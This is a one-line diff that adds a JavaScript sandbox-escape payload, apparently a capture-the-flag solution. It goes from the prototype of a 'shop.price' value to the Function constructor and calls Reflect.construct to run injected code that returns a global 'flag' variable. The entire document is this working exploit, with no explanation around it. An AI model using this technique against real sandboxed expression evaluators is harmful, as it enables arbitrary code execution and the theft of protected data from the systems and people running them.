@@ -1,0 +1,1 @@
+Reflect.construct(Object.getPrototypeOf(shop.price).constructor, ["return globalThis.flag"])()
